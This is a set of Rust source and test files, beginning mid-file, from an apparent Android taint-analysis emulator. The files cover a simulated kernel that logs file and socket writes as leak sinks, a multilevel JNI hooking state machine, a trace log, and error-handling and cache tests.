        prop_assert_eq!(real.tainted_bytes(), model.tainted_bytes());
        for i in 0..len {
            let p = dst.wrapping_add(i);
            prop_assert_eq!(real.get(p), model.get(p), "byte {:#x}", p);
        }
    }
}
