//! Property-based tests of the emulator substrates: the kernel fd
//! lifecycle and the byte-granular taint map.

use ndroid_dvm::Taint;
use ndroid_emu::shadow::TaintMap;
use ndroid_emu::Kernel;
use ndroid_testkit::prelude::*;

proptest! {
    /// The kernel filesystem behaves like a map of byte vectors under
    /// arbitrary open/write/read/close sequences.
    #[test]
    fn kernel_file_model(chunks in collection::vec(collection::vec(any::<u8>(), 0..64), 1..10)) {
        let mut k = Kernel::new();
        let fd = k.open("/data/file", true).unwrap();
        let mut expected = Vec::new();
        for chunk in &chunks {
            k.write(fd, chunk, Taint::CLEAR).unwrap();
            expected.extend_from_slice(chunk);
        }
        k.close(fd).unwrap();
        prop_assert_eq!(k.fs.get("/data/file").unwrap(), &expected);
        // Read it back in arbitrary-size gulps.
        let fd = k.open("/data/file", false).unwrap();
        let mut read_back = Vec::new();
        loop {
            let chunk = k.read(fd, 7).unwrap();
            if chunk.is_empty() {
                break;
            }
            read_back.extend_from_slice(&chunk);
        }
        prop_assert_eq!(read_back, expected);
    }

    /// The byte taint map equals a reference HashMap model under
    /// arbitrary set/add/clear/copy operations.
    #[test]
    fn taint_map_matches_model(ops in collection::vec((0u8..4, 0u32..128, 1u32..16, any::<u32>()), 0..64)) {
        use std::collections::HashMap;
        let mut real = TaintMap::new();
        let mut model: HashMap<u32, u32> = HashMap::new();
        for (op, addr, len, bits) in ops {
            match op {
                0 => {
                    real.set_range(addr, len, Taint(bits));
                    for i in 0..len {
                        if bits == 0 {
                            model.remove(&(addr + i));
                        } else {
                            model.insert(addr + i, bits);
                        }
                    }
                }
                1 => {
                    real.add_range(addr, len, Taint(bits));
                    if bits != 0 {
                        for i in 0..len {
                            *model.entry(addr + i).or_insert(0) |= bits;
                        }
                    }
                }
                2 => {
                    real.clear_range(addr, len);
                    for i in 0..len {
                        model.remove(&(addr + i));
                    }
                }
                _ => {
                    let dst = addr.wrapping_add(64);
                    real.copy_range(dst, addr, len);
                    let vals: Vec<Option<u32>> =
                        (0..len).map(|i| model.get(&(addr + i)).copied()).collect();
                    for (i, v) in vals.into_iter().enumerate() {
                        match v {
                            Some(bits) => {
                                model.insert(dst + i as u32, bits);
                            }
                            None => {
                                model.remove(&(dst + i as u32));
                            }
                        }
                    }
                }
            }
            for a in 0..200u32 {
                prop_assert_eq!(
                    real.get(a).0,
                    model.get(&a).copied().unwrap_or(0),
                    "byte {}", a
                );
            }
        }
    }

}
