//! Error-path coverage of the emulator runtime: host-function
//! failures, undefined instructions, and budget exhaustion in nested
//! contexts.

use ndroid_arm::block::BlockCache;
use ndroid_arm::icache::DecodeCache;
use ndroid_arm::reg::RegList;
use ndroid_arm::{Assembler, Cpu, Memory, Reg};
use ndroid_dvm::{Dvm, Program};
use ndroid_emu::layout;
use ndroid_emu::runtime::{call_guest, HostTable, NativeCtx, VanillaAnalysis};
use ndroid_emu::{EmuError, Kernel, ShadowState, TraceLog};

struct World {
    cpu: Cpu,
    mem: Memory,
    dvm: Dvm,
    shadow: ShadowState,
    kernel: Kernel,
    trace: TraceLog,
    budget: u64,
    icache: DecodeCache,
    blocks: BlockCache,
}

impl World {
    fn new() -> World {
        let mut cpu = Cpu::new();
        cpu.regs[13] = layout::NATIVE_STACK_TOP;
        World {
            cpu,
            mem: Memory::new(),
            dvm: Dvm::new(Program::new()),
            shadow: ShadowState::new(),
            kernel: Kernel::new(),
            trace: TraceLog::new(),
            budget: 100_000,
            icache: DecodeCache::new(),
            blocks: BlockCache::new(),
        }
    }

    fn call(
        &mut self,
        table: &HostTable,
        entry: u32,
    ) -> Result<(u32, ndroid_dvm::Taint), EmuError> {
        let mut analysis = VanillaAnalysis;
        let mut ctx = NativeCtx {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            dvm: &mut self.dvm,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: &mut analysis,
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
        };
        call_guest(&mut ctx, table, entry, &[], |_, _| {})
    }
}

fn load(w: &mut World, build: impl FnOnce(&mut Assembler)) -> u32 {
    let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
    build(&mut asm);
    let code = asm.assemble().unwrap();
    w.mem.write_bytes(code.base, &code.bytes);
    code.base
}

#[test]
fn host_error_carries_function_name() {
    const FAILER: u32 = layout::LIBC_BASE + 0x7000;
    let mut table = HostTable::new();
    table.register(FAILER, "exploder", |_, _| {
        Err(EmuError::Kernel("boom".into()))
    });
    let mut w = World::new();
    let entry = load(&mut w, |asm| {
        asm.push(RegList::of(&[Reg::LR]));
        asm.call_abs(FAILER);
        asm.pop(RegList::of(&[Reg::PC]));
    });
    let err = w.call(&table, entry).unwrap_err();
    match err {
        EmuError::Host { name, message } => {
            assert_eq!(name, "exploder");
            assert!(message.contains("boom"));
        }
        other => panic!("expected Host error, got {other}"),
    }
}

#[test]
fn branch_into_nothing_burns_budget_not_the_host() {
    // Zero-filled memory decodes as `ANDEQ r0, r0, r0` — architecturally
    // valid no-ops — so a wild branch spins until the budget trips
    // (exactly how a real emulator would march through zeroed pages).
    let mut w = World::new();
    w.budget = 500;
    let entry = load(&mut w, |asm| {
        asm.ldr_const(Reg::R12, 0x0BAD_0000); // unmapped, not a host fn
        asm.bx(Reg::R12);
    });
    let err = w.call(&HostTable::new(), entry).unwrap_err();
    assert!(matches!(err, EmuError::Timeout { .. }), "{err}");
}

#[test]
fn truly_undefined_word_is_rejected() {
    let mut w = World::new();
    let entry = load(&mut w, |asm| {
        asm.word(0xF000_0000); // cond=1111 space: undefined in our subset
    });
    let err = w.call(&HostTable::new(), entry).unwrap_err();
    assert!(
        matches!(
            err,
            EmuError::Arm(ndroid_arm::ArmError::UndefinedInstruction { .. })
        ),
        "{err}"
    );
}

#[test]
fn budget_exhaustion_reports_timeout() {
    let mut w = World::new();
    w.budget = 50;
    let entry = load(&mut w, |asm| {
        let top = asm.here_label();
        asm.b(top);
    });
    let err = w.call(&HostTable::new(), entry).unwrap_err();
    assert!(matches!(err, EmuError::Timeout { .. }));
}

#[test]
fn registers_restored_even_after_error() {
    let mut w = World::new();
    w.cpu.regs[4] = 0x1234_5678;
    let sp = w.cpu.regs[13];
    w.budget = 50;
    let entry = load(&mut w, |asm| {
        asm.mov_imm(Reg::R4, 0).unwrap();
        let top = asm.here_label();
        asm.b(top);
    });
    let _ = w.call(&HostTable::new(), entry).unwrap_err();
    assert_eq!(w.cpu.regs[4], 0x1234_5678, "caller state restored on error");
    assert_eq!(w.cpu.regs[13], sp);
}

#[test]
fn duplicate_host_registration_panics() {
    let result = std::panic::catch_unwind(|| {
        let mut table = HostTable::new();
        table.register(0x6800_0000, "a", |_, _| Ok(0));
        table.register(0x6800_0000, "b", |_, _| Ok(0));
    });
    assert!(result.is_err());
}

#[test]
fn host_fn_can_set_secondary_return_register() {
    const WIDE: u32 = layout::LIBC_BASE + 0x7100;
    let mut table = HostTable::new();
    table.register(WIDE, "wide_ret", |ctx, _| {
        ctx.cpu.regs[1] = 0xDEAD_0000;
        Ok(0x0000_BEEF)
    });
    let mut w = World::new();
    let entry = load(&mut w, |asm| {
        asm.push(RegList::of(&[Reg::LR]));
        asm.call_abs(WIDE);
        // Store r0:r1 so the test can see both halves.
        asm.ldr_const(Reg::R2, 0x2000_0000);
        asm.str(Reg::R0, Reg::R2, 0);
        asm.str(Reg::R1, Reg::R2, 4);
        asm.pop(RegList::of(&[Reg::PC]));
    });
    w.call(&table, entry).unwrap();
    assert_eq!(w.mem.read_u32(0x2000_0000), 0x0000_BEEF);
    assert_eq!(w.mem.read_u32(0x2000_0004), 0xDEAD_0000);
}
