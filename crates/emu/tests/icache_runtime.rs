//! End-to-end decode-cache behavior through the emulator run loop:
//! `call_guest` fetches through the session's [`DecodeCache`], hot
//! loops are served from it, and host-side writes to a code page make
//! the next run re-decode the new bytes.

use ndroid_arm::block::BlockCache;
use ndroid_arm::icache::DecodeCache;
use ndroid_arm::{Assembler, Cond, Cpu, Memory, Reg};
use ndroid_dvm::{Dvm, Program};
use ndroid_emu::kernel::Kernel;
use ndroid_emu::runtime::{call_guest, HostTable, NativeCtx, VanillaAnalysis};
use ndroid_emu::shadow::ShadowState;
use ndroid_emu::trace::TraceLog;
use ndroid_emu::layout;

struct World {
    cpu: Cpu,
    mem: Memory,
    dvm: Dvm,
    shadow: ShadowState,
    kernel: Kernel,
    trace: TraceLog,
    budget: u64,
    icache: DecodeCache,
    blocks: BlockCache,
}

impl World {
    fn new() -> World {
        let mut cpu = Cpu::new();
        cpu.regs[13] = layout::NATIVE_STACK_TOP;
        // Superblock dispatch off: this suite pins the *stepper* path's
        // decode-cache behavior (the block path has its own suite in
        // block_runtime.rs).
        let mut blocks = BlockCache::new();
        blocks.enabled = false;
        World {
            cpu,
            mem: Memory::new(),
            dvm: Dvm::new(Program::new()),
            shadow: ShadowState::new(),
            kernel: Kernel::new(),
            trace: TraceLog::new(),
            budget: 1_000_000,
            icache: DecodeCache::new(),
            blocks,
        }
    }

    fn call(&mut self, entry: u32) -> u32 {
        let mut analysis = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = NativeCtx {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            dvm: &mut self.dvm,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: &mut analysis,
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
        };
        let (r0, _) = call_guest(&mut ctx, &table, entry, &[], |_, _| {}).expect("guest run");
        r0
    }
}

#[test]
fn run_loop_reuses_the_session_cache_across_calls() {
    let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
    asm.mov_imm(Reg::R4, 25).unwrap();
    asm.mov_imm(Reg::R0, 0).unwrap();
    let top = asm.here_label();
    asm.add_imm(Reg::R0, Reg::R0, 2).unwrap();
    asm.subs_imm(Reg::R4, Reg::R4, 1).unwrap();
    asm.b_cond(Cond::Ne, top);
    asm.bx(Reg::LR);
    let code = asm.assemble().unwrap();

    let mut w = World::new();
    w.mem.write_bytes(code.base, &code.bytes);
    assert_eq!(w.call(code.base), 50);
    let hits_first = w.icache.hits;
    assert!(hits_first > 0, "hot loop served from the cache");
    assert_eq!(w.call(code.base), 50);
    assert!(
        w.icache.hits > hits_first,
        "second call reuses decodes from the first (shared session cache)"
    );
}

#[test]
fn host_write_to_code_page_forces_redecode() {
    let base = layout::NATIVE_CODE_BASE;
    let mut asm = Assembler::new(base);
    asm.mov_imm(Reg::R0, 1).unwrap();
    asm.bx(Reg::LR);
    let code = asm.assemble().unwrap();

    let mut w = World::new();
    w.mem.write_bytes(base, &code.bytes);
    assert_eq!(w.call(base), 1);

    // Patch the first instruction to `mov r0, #3` from the host side.
    let mut asm2 = Assembler::new(base);
    asm2.mov_imm(Reg::R0, 3).unwrap();
    let word = u32::from_le_bytes(asm2.assemble().unwrap().bytes[..4].try_into().unwrap());
    w.mem.write_u32(base, word);

    assert_eq!(w.call(base), 3, "run loop decodes the patched bytes");
    assert!(w.icache.invalidations > 0);
}
