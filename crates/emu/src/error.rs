//! Error type for the emulator runtime.

use ndroid_arm::ArmError;
use ndroid_dvm::DvmError;
use std::fmt;

/// Errors raised while running guest code under the emulator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EmuError {
    /// An ARM-level failure (decode, execute).
    Arm(ArmError),
    /// A DVM-level failure surfaced through a JNI boundary.
    Dvm(DvmError),
    /// The guest executed more instructions than the configured budget.
    Timeout {
        /// The budget that was exhausted.
        budget: u64,
    },
    /// A branch targeted an address that is neither code nor a
    /// registered host function.
    WildBranch {
        /// Branch origin.
        from: u32,
        /// Branch target.
        to: u32,
    },
    /// A host function failed.
    Host {
        /// The host function's registered name.
        name: String,
        /// Failure description.
        message: String,
    },
    /// Bad file descriptor or kernel-object misuse.
    Kernel(String),
}

impl fmt::Display for EmuError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EmuError::Arm(e) => write!(f, "arm: {e}"),
            EmuError::Dvm(e) => write!(f, "dvm: {e}"),
            EmuError::Timeout { budget } => {
                write!(f, "guest exceeded instruction budget of {budget}")
            }
            EmuError::WildBranch { from, to } => {
                write!(f, "wild branch from {from:#x} to {to:#x}")
            }
            EmuError::Host { name, message } => write!(f, "host fn {name}: {message}"),
            EmuError::Kernel(msg) => write!(f, "kernel: {msg}"),
        }
    }
}

impl std::error::Error for EmuError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            EmuError::Arm(e) => Some(e),
            EmuError::Dvm(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ArmError> for EmuError {
    fn from(e: ArmError) -> EmuError {
        EmuError::Arm(e)
    }
}

impl From<DvmError> for EmuError {
    fn from(e: DvmError) -> EmuError {
        EmuError::Dvm(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn conversions_and_display() {
        let e: EmuError = ArmError::Unmapped { addr: 4 }.into();
        assert!(e.to_string().contains("arm:"));
        let e: EmuError = DvmError::OutOfFuel.into();
        assert!(e.to_string().contains("dvm:"));
        assert!(!EmuError::Timeout { budget: 5 }.to_string().is_empty());
        assert!(!EmuError::WildBranch { from: 0, to: 1 }.to_string().is_empty());
        use std::error::Error;
        assert!(EmuError::Arm(ArmError::Unmapped { addr: 4 }).source().is_some());
        assert!(EmuError::Kernel("x".into()).source().is_none());
    }
}
