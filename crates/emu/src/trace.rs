//! Structured analysis trace, reproducing the paper's log output
//! (Figs. 6–9 show excerpts of exactly this kind of log).

use std::fmt;

/// One analysis log event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceEvent {
    /// Event category, e.g. `"jni-entry"`, `"hook"`, `"taint"`, `"sink"`.
    pub kind: &'static str,
    /// Human-readable detail line.
    pub text: String,
}

impl fmt::Display for TraceEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[{}] {}", self.kind, self.text)
    }
}

/// The accumulated analysis trace.
#[derive(Debug, Default, Clone)]
pub struct TraceLog {
    events: Vec<TraceEvent>,
    /// When false, `push` is a no-op (vanilla / benchmark runs).
    pub enabled: bool,
}

impl TraceLog {
    /// An enabled, empty log.
    pub fn new() -> TraceLog {
        TraceLog {
            events: Vec::new(),
            enabled: true,
        }
    }

    /// A disabled log (no recording overhead).
    pub fn disabled() -> TraceLog {
        TraceLog {
            events: Vec::new(),
            enabled: false,
        }
    }

    /// Appends an event (no-op when disabled).
    pub fn push(&mut self, kind: &'static str, text: impl Into<String>) {
        if self.enabled {
            self.events.push(TraceEvent {
                kind,
                text: text.into(),
            });
        }
    }

    /// All recorded events.
    pub fn events(&self) -> &[TraceEvent] {
        &self.events
    }

    /// Events of one kind.
    pub fn of_kind<'a>(&'a self, kind: &'a str) -> impl Iterator<Item = &'a TraceEvent> + 'a {
        self.events.iter().filter(move |e| e.kind == kind)
    }

    /// Whether any event's text contains `needle`.
    pub fn contains(&self, needle: &str) -> bool {
        self.events.iter().any(|e| e.text.contains(needle))
    }

    /// Renders the whole log, one event per line.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for e in &self.events {
            out.push_str(&e.to_string());
            out.push('\n');
        }
        out
    }

    /// Number of recorded events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Whether the log is empty.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn push_and_filter() {
        let mut log = TraceLog::new();
        log.push("jni-entry", "makeLoginRequestPackageMd5");
        log.push("taint", "t(0x4127deb8) := 0x202");
        log.push("jni-entry", "getPostUrl");
        assert_eq!(log.len(), 3);
        assert_eq!(log.of_kind("jni-entry").count(), 2);
        assert!(log.contains("0x202"));
        assert!(!log.contains("absent"));
    }

    #[test]
    fn disabled_log_records_nothing() {
        let mut log = TraceLog::disabled();
        log.push("x", "y");
        assert!(log.is_empty());
    }

    #[test]
    fn render_lines() {
        let mut log = TraceLog::new();
        log.push("hook", "NewStringUTF Begin");
        log.push("hook", "NewStringUTF End");
        let s = log.render();
        assert_eq!(s.lines().count(), 2);
        assert!(s.starts_with("[hook] NewStringUTF Begin"));
    }
}
