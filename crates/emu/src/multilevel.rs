//! The multilevel hooking technique (Fig. 5 of the paper).
//!
//! "Since the methods `dvmCallMethod*` and `dvmInterpret` may also be
//! invoked by other codes rather than the native codes under
//! investigation, the overhead will be high if we hook these two
//! functions whenever they are called. … Its basic idea is to define
//! and check a sequence of preconditions before hooking certain
//! methods." (§V-B)
//!
//! A [`MultilevelHook`] watches the branch-event stream `(I_from, I_to)`
//! and maintains which condition in the chain T1 → T2 → … is currently
//! satisfied. Instrumentation of the function at `chain[k]` fires only
//! when T(k+1) holds — i.e. only when the call chain started from the
//! third-party native code.

/// Predicate for "the branch originates in the code under analysis"
/// (T1's `I_from` condition).
pub type RegionPredicate = fn(u32) -> bool;

/// A chain of call-entry conditions, e.g.
/// `[CallVoidMethodA, dvmCallMethodA, dvmInterpret]`.
#[derive(Debug, Clone)]
pub struct MultilevelHook {
    chain: Vec<u32>,
    in_region: RegionPredicate,
    /// Number of chain levels currently satisfied (0 = idle;
    /// 1 = T1 holds; …; chain.len() = deepest condition holds).
    depth: usize,
    /// Return addresses observed for each satisfied level, used to
    /// recognize the unwind conditions (T4…T6).
    call_sites: Vec<u32>,
    /// Statistics: how many times each level was entered.
    pub entries: Vec<u64>,
    /// How many branch events were processed.
    pub events: u64,
}

impl MultilevelHook {
    /// Builds a hook for the given chain of function entry addresses.
    ///
    /// # Panics
    ///
    /// Panics on an empty chain.
    pub fn new(chain: Vec<u32>, in_region: RegionPredicate) -> MultilevelHook {
        assert!(!chain.is_empty(), "multilevel chain must not be empty");
        let n = chain.len();
        MultilevelHook {
            chain,
            in_region,
            depth: 0,
            call_sites: Vec::new(),
            entries: vec![0; n],
            events: 0,
        }
    }

    /// Current satisfied depth (0 = no condition holds).
    pub fn depth(&self) -> usize {
        self.depth
    }

    /// Whether the instrumentation for chain level `level`
    /// (0-based: 0 = the outermost JNI function) should run — i.e.
    /// condition T(level+1) of the paper holds.
    pub fn should_instrument(&self, level: usize) -> bool {
        self.depth > level
    }

    /// Feeds one branch event. Returns the chain level *entered* by
    /// this event, if any.
    pub fn on_branch(&mut self, from: u32, to: u32) -> Option<usize> {
        self.events += 1;
        // Deeper condition: the next chain element is entered from
        // wherever the previous level's function is executing.
        if self.depth < self.chain.len() && to == self.chain[self.depth] {
            let precondition = if self.depth == 0 {
                (self.in_region)(from)
            } else {
                true // T(k) for k ≥ 2 only requires T(k-1) active
            };
            if precondition {
                self.depth += 1;
                self.call_sites.push(from.wrapping_add(4));
                self.entries[self.depth - 1] += 1;
                return Some(self.depth - 1);
            }
        }
        // Unwind: a return to the instruction after the call site that
        // entered the current level (T4/T5/T6: "I_to equals C+4, the
        // address next to the instruction that calls …").
        if self.depth > 0 && to == self.call_sites[self.depth - 1] {
            self.depth -= 1;
            self.call_sites.pop();
        }
        None
    }

    /// Resets the FSM (e.g. on guest thread switch).
    pub fn reset(&mut self) {
        self.depth = 0;
        self.call_sites.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn native(addr: u32) -> bool {
        (0x1000_0000..0x1100_0000).contains(&addr)
    }

    const CALL_VOID: u32 = 0x6000_0100; // "CallVoidMethodA"
    const DVM_CALL: u32 = 0x6000_0200; // "dvmCallMethodA"
    const DVM_INTERP: u32 = 0x6000_0300; // "dvmInterpret"

    fn hook() -> MultilevelHook {
        MultilevelHook::new(vec![CALL_VOID, DVM_CALL, DVM_INTERP], native)
    }

    #[test]
    fn full_chain_from_native_fig5() {
        let mut h = hook();
        // Step 1: native code calls CallVoidMethodA (T1).
        assert_eq!(h.on_branch(0x1000_0040, CALL_VOID), Some(0));
        assert!(h.should_instrument(0));
        assert!(!h.should_instrument(1));
        // Step 2: CallVoidMethodA calls dvmCallMethodA (T2).
        assert_eq!(h.on_branch(CALL_VOID + 0x10, DVM_CALL), Some(1));
        assert!(h.should_instrument(1));
        // Step 3: dvmCallMethodA calls dvmInterpret (T3).
        assert_eq!(h.on_branch(DVM_CALL + 0x20, DVM_INTERP), Some(2));
        assert!(h.should_instrument(2));
        assert_eq!(h.depth(), 3);
        // Step 4: dvmInterpret returns to dvmCallMethodA (T4).
        assert_eq!(h.on_branch(DVM_INTERP + 0x50, DVM_CALL + 0x24), None);
        assert_eq!(h.depth(), 2);
        // Step 5: return to CallVoidMethodA (T5).
        h.on_branch(DVM_CALL + 0x40, CALL_VOID + 0x14);
        assert_eq!(h.depth(), 1);
        // Step 6: return to the native code (T6).
        h.on_branch(CALL_VOID + 0x30, 0x1000_0044);
        assert_eq!(h.depth(), 0);
    }

    #[test]
    fn chain_ignored_when_entered_from_elsewhere() {
        let mut h = hook();
        // Framework (non-native) code calls CallVoidMethodA: T1 fails.
        assert_eq!(h.on_branch(0x6100_0000, CALL_VOID), None);
        assert_eq!(h.depth(), 0);
        // dvmCallMethodA invoked directly by the VM: not instrumented.
        assert_eq!(h.on_branch(0x6100_0010, DVM_CALL), None);
        assert!(!h.should_instrument(1));
    }

    #[test]
    fn inner_function_alone_does_not_trigger() {
        let mut h = hook();
        // dvmInterpret runs all the time in the VM; without the chain
        // prefix it must not be instrumented — the whole point of
        // multilevel hooking.
        for _ in 0..100 {
            assert_eq!(h.on_branch(0x6100_0000, DVM_INTERP), None);
        }
        assert!(!h.should_instrument(2));
        assert_eq!(h.entries[2], 0);
    }

    #[test]
    fn entry_statistics_count() {
        let mut h = hook();
        for i in 0..3u32 {
            h.on_branch(0x1000_0000 + 8 * i, CALL_VOID);
            h.on_branch(CALL_VOID + 0x10, DVM_CALL);
            h.on_branch(DVM_CALL + 0x20, DVM_INTERP);
            h.on_branch(DVM_INTERP + 4, DVM_CALL + 0x24);
            h.on_branch(DVM_CALL + 4, CALL_VOID + 0x14);
            h.on_branch(CALL_VOID + 4, 0x1000_0000 + 8 * i + 4);
        }
        assert_eq!(h.entries, vec![3, 3, 3]);
        assert_eq!(h.depth(), 0);
        assert_eq!(h.events, 18);
    }

    #[test]
    fn reset_clears_state() {
        let mut h = hook();
        h.on_branch(0x1000_0000, CALL_VOID);
        assert_eq!(h.depth(), 1);
        h.reset();
        assert_eq!(h.depth(), 0);
        assert!(!h.should_instrument(0));
    }

    #[test]
    #[should_panic(expected = "chain must not be empty")]
    fn empty_chain_rejected() {
        MultilevelHook::new(vec![], native);
    }
}
