//! The simulated Linux kernel: file descriptors, an in-memory
//! filesystem, sockets, and the native heap arena.
//!
//! The paper's Table VII hooks "selected system calls (e.g., file
//! read/write, network, etc.)"; starred entries (`fwrite*`, `write*`,
//! `fputc*`, `fputs*`, `send*`, `sendto*`) are treated as possible
//! information leaks. Here the kernel records every such call as a
//! [`LeakEvent`] (native context) with the taint the libc hook engine
//! computed for the outgoing bytes.

use crate::error::EmuError;
use crate::layout;
use ndroid_dvm::interp::SinkContext;
use ndroid_dvm::{LeakEvent, Taint};
use std::collections::HashMap;

/// A kernel object behind a file descriptor.
#[derive(Debug, Clone)]
enum FdObject {
    File {
        path: String,
        pos: usize,
        writable: bool,
    },
    Socket {
        dest: Option<String>,
    },
}

/// A simple first-fit free-list allocator over the guest native-heap
/// region (backs `malloc`/`free`/`realloc`).
#[derive(Debug, Clone)]
pub struct NativeHeap {
    cursor: u32,
    end: u32,
    free: Vec<(u32, u32)>, // (addr, size)
    sizes: HashMap<u32, u32>,
}

impl Default for NativeHeap {
    fn default() -> NativeHeap {
        NativeHeap::new()
    }
}

impl NativeHeap {
    /// A heap spanning the [`layout::NATIVE_HEAP_BASE`] region.
    pub fn new() -> NativeHeap {
        NativeHeap {
            // Offset so allocations land at addresses like the paper's
            // 0x2a141b90.
            cursor: layout::NATIVE_HEAP_BASE + 0x0010_0000,
            end: layout::NATIVE_HEAP_BASE + layout::NATIVE_HEAP_SIZE,
            free: Vec::new(),
            sizes: HashMap::new(),
        }
    }

    /// Allocates `size` bytes (8-byte aligned); returns 0 on exhaustion
    /// like a failing `malloc`.
    pub fn malloc(&mut self, size: u32) -> u32 {
        let size = (size.max(1) + 7) & !7;
        if let Some(i) = self.free.iter().position(|(_, s)| *s >= size) {
            let (addr, s) = self.free.swap_remove(i);
            if s > size {
                self.free.push((addr + size, s - size));
            }
            self.sizes.insert(addr, size);
            return addr;
        }
        if self.cursor + size > self.end {
            return 0;
        }
        let addr = self.cursor;
        self.cursor += size;
        self.sizes.insert(addr, size);
        addr
    }

    /// Frees a previous allocation (unknown pointers are ignored, as
    /// glibc would corrupt instead — we are kinder).
    pub fn free(&mut self, addr: u32) {
        if let Some(size) = self.sizes.remove(&addr) {
            self.free.push((addr, size));
        }
    }

    /// The usable size of an allocation.
    pub fn size_of(&self, addr: u32) -> Option<u32> {
        self.sizes.get(&addr).copied()
    }

    /// Number of live allocations.
    pub fn live(&self) -> usize {
        self.sizes.len()
    }
}

/// The simulated kernel state.
#[derive(Debug, Default, Clone)]
pub struct Kernel {
    /// In-memory filesystem: path → contents.
    pub fs: HashMap<String, Vec<u8>>,
    fds: Vec<Option<FdObject>>,
    /// Data sent over each socket, in order: (destination, bytes, taint).
    pub network_log: Vec<(String, Vec<u8>, Taint)>,
    /// Sink invocations in the native context (Table VII starred calls).
    pub events: Vec<LeakEvent>,
    /// The native `malloc` arena.
    pub heap: NativeHeap,
    /// Count of kernel calls serviced (for overhead accounting).
    pub syscalls: u64,
    /// Provenance recorder shared with the shadow state and the DVM;
    /// every [`LeakEvent`] push mirrors a `ProvEvent::Sink` so leak
    /// paths end exactly where the pinned leak reports do.
    pub prov: ndroid_provenance::Handle,
}

impl Kernel {
    /// A fresh kernel with an empty filesystem.
    pub fn new() -> Kernel {
        Kernel {
            fds: vec![None, None, None], // 0/1/2 reserved
            ..Kernel::default()
        }
    }

    fn alloc_fd(&mut self, obj: FdObject) -> i32 {
        for (i, slot) in self.fds.iter_mut().enumerate().skip(3) {
            if slot.is_none() {
                *slot = Some(obj);
                return i as i32;
            }
        }
        self.fds.push(Some(obj));
        (self.fds.len() - 1) as i32
    }

    fn fd(&mut self, fd: i32) -> Result<&mut FdObject, EmuError> {
        self.fds
            .get_mut(fd as usize)
            .and_then(|o| o.as_mut())
            .ok_or_else(|| EmuError::Kernel(format!("bad fd {fd}")))
    }

    fn prov_sink(&self, sink: &str, dest: &str, taint: Taint) {
        if self.prov.is_on() {
            self.prov.emit(ndroid_provenance::ProvEvent::Sink {
                sink: sink.to_string(),
                dest: dest.to_string(),
                label: taint.0,
                ctx: ndroid_provenance::SinkCtx::Native,
            });
        }
    }

    /// `open(2)` — `create` truncates/creates; otherwise the file must
    /// exist.
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] when opening a missing file without `create`.
    pub fn open(&mut self, path: &str, create: bool) -> Result<i32, EmuError> {
        self.syscalls += 1;
        if create {
            self.fs.insert(path.to_string(), Vec::new());
        } else if !self.fs.contains_key(path) {
            return Err(EmuError::Kernel(format!("no such file: {path}")));
        }
        Ok(self.alloc_fd(FdObject::File {
            path: path.to_string(),
            pos: 0,
            writable: true,
        }))
    }

    /// `close(2)`.
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] on a bad descriptor.
    pub fn close(&mut self, fd: i32) -> Result<(), EmuError> {
        self.syscalls += 1;
        let slot = self
            .fds
            .get_mut(fd as usize)
            .ok_or_else(|| EmuError::Kernel(format!("bad fd {fd}")))?;
        if slot.take().is_none() {
            return Err(EmuError::Kernel(format!("double close of fd {fd}")));
        }
        Ok(())
    }

    /// `read(2)` — returns the bytes read.
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] on a bad descriptor.
    pub fn read(&mut self, fd: i32, len: usize) -> Result<Vec<u8>, EmuError> {
        self.syscalls += 1;
        let obj = self.fd(fd)?;
        match obj {
            FdObject::File { path, pos, .. } => {
                let path = path.clone();
                let start = *pos;
                let data = self.fs.get(&path).cloned().unwrap_or_default();
                let end = (start + len).min(data.len());
                let out = data[start.min(data.len())..end].to_vec();
                if let Some(FdObject::File { pos, .. }) = self.fds[fd as usize].as_mut() {
                    *pos = end;
                }
                Ok(out)
            }
            FdObject::Socket { .. } => Ok(Vec::new()),
        }
    }

    /// `write(2)` — a **sink** when the descriptor is a file or socket
    /// (Table VII's `write*`). `taint` is the union over the written
    /// bytes, computed by the caller from the taint map.
    ///
    /// # Errors
    ///
    /// [`EmuError::Kernel`] on a bad descriptor.
    pub fn write(&mut self, fd: i32, data: &[u8], taint: Taint) -> Result<usize, EmuError> {
        self.syscalls += 1;
        let obj = self.fd(fd)?;
        match obj {
            FdObject::File { path, writable, .. } => {
                if !*writable {
                    return Err(EmuError::Kernel(format!("fd {fd} not writable")));
                }
                let path = path.clone();
                self.fs.entry(path.clone()).or_default().extend_from_slice(data);
                self.prov_sink("write", &path, taint);
                self.events.push(LeakEvent {
                    sink: "write".to_string(),
                    dest: path,
                    data: String::from_utf8_lossy(data).into_owned(),
                    taint,
                    context: SinkContext::Native,
                });
                Ok(data.len())
            }
            FdObject::Socket { dest } => {
                let dest = dest.clone().unwrap_or_else(|| "<unconnected>".to_string());
                self.network_log.push((dest.clone(), data.to_vec(), taint));
                self.prov_sink("send", &dest, taint);
                self.events.push(LeakEvent {
                    sink: "send".to_string(),
                    dest,
                    data: String::from_utf8_lossy(data).into_owned(),
                    taint,
                    context: SinkContext::Native,
                });
                Ok(data.len())
            }
        }
    }

    /// `socket(2)`.
